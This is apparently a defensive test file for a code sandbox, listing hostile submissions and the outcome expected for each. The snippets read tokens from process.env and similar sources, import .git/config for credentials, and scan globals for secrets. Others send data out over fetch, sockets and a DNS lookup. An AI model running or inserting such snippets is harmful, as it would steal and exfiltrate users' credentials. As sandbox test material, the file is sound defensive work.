/** Code that looks for tokens in the environment, and for a network to send them over. */
import { DOES_NOT_COMPILE, endsIn, type Hostile, IMPORT_REFUSED, inBrief, inFamily, KEEPS_ALL } from './hostile.ts'
import { type Kit, onRight, onWrong, withText } from './kit.ts'

const object = 'export function create(): object {\n  return {}\n}\n'
const importing = (line: string | ((kit: Kit) => string)) =>
  withText((kit) => `${typeof line === 'function' ? line(kit) : line}\n${object}`)

export const environment: readonly Hostile[] = inFamily(
  'environment and network',
  inBrief([
    {
      id: 'environment-typed',
      tries: 'Throws all of process.env, and lets the compiler see it.',
      submission: withText(`throw new Error(JSON.stringify(process.env))\n${object}`),
      expect: DOES_NOT_COMPILE,
    },
    {
      id: 'environment-by-name',
      tries: 'Throws the token by its name, in every way in which bundlers put environments into code.',
      submission: onWrong(({ bait }) => ({
        call: `const found = []
for (const read of [() => process.env.${bait.tokenName}, () => process.env.NODE_ENV, () => globalThis.process.env, () => Deno.env.toObject(), () => Bun.env, () => __env__]) try { found.push(JSON.stringify(read())) } catch {}
throw new Error('found ' + found)`,
      })),
      expect: endsIn('threw'),
    },
    {
      id: 'environment-of-the-bundler',
      tries: 'Reads import.meta.env, which some bundlers fill from the environment.',
      submission: importing(
        'export const env: string = String((import.meta as unknown as { env: unknown }).env)\nthrow new Error(env)',
      ),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'imports-process',
      tries: 'Imports node:process for its environment.',
      submission: importing("import { env } from 'node:process'\nthrow new Error(JSON.stringify(env))"),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'imports-os',
      tries: 'Imports node:os to say who runs it, and where.',
      submission: importing("import { userInfo } from 'node:os'\nthrow new Error(JSON.stringify(userInfo()))"),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'git-credentials',
      tries: 'Imports git’s configuration as a text, with the credentials that a checkout left there.',
      submission: importing(
        "import config from '../.git/config' with { type: 'text' }\nthrow new Error(String(config))",
      ),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'globals-for-tokens',
      tries: 'Goes through every global and everything on it, to depth three, for anything that looks like a token.',
      submission: onRight(({ bait }) => ({
        load: `const walk = (thing, depth) => {
  if (typeof thing === 'string' && /${bait.mark}|token|secret/i.test(thing)) throw new Error('found ' + thing)
  if ((typeof thing !== 'object' && typeof thing !== 'function') || thing === null || depth > 3) return
  for (const key of Reflect.ownKeys(thing)) { let next; try { next = thing[key] } catch { continue } if (next !== thing) walk(next, depth + 1) }
}
walk(globalThis, 0)`,
      })),
      expect: KEEPS_ALL,
    },
    {
      id: 'fetch-typed',
      tries: 'Sends what it knows to a server with fetch, and lets the compiler see it.',
      submission: withText(({ bait }) => `void fetch('http://127.0.0.1:${bait.tcpPort}/')\n${object}`),
      expect: DOES_NOT_COMPILE,
    },
    {
      id: 'fetch',
      tries: 'Connects to a server with fetch, WebSocket, EventSource and XMLHttpRequest.',
      submission: onWrong(({ bait }) => ({
        call: `const address = '127.0.0.1:${bait.tcpPort}/'
for (const connect of [() => fetch('http://' + address), () => new WebSocket('ws://' + address), () => new EventSource('http://' + address), () => { const request = new XMLHttpRequest(); request.open('GET', 'http://' + address, false); request.send() }]) try { connect() } catch {}
throw new Error('sent')`,
      })),
      expect: endsIn('threw'),
    },
    {
      id: 'imports-net',
      tries: 'Imports node:net to connect to a server.',
      submission: importing(({ bait }) => `import { connect } from 'node:net'\nconnect(${bait.tcpPort}, '127.0.0.1')`),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'imports-dns',
      tries: 'Imports node:dns, to send a secret as the name that it asks for.',
      submission: importing("import { lookup } from 'node:dns'\nlookup('secret.example.invalid', () => {})"),
      expect: IMPORT_REFUSED,
    },
    {
      id: 'imports-http2',
      tries:
        'Imports modules of Node that few lists name: node:http2, node:inspector, node:wasi, node:sqlite, node:test.',
      submission: importing(
        ['http2', 'inspector', 'wasi', 'sqlite', 'test']
          .map((name, n) => `import * as m${n} from 'node:${name}'\nexport { m${n} }`)
          .join('\n'),
      ),
      expect: IMPORT_REFUSED,
    },
  ]),
)
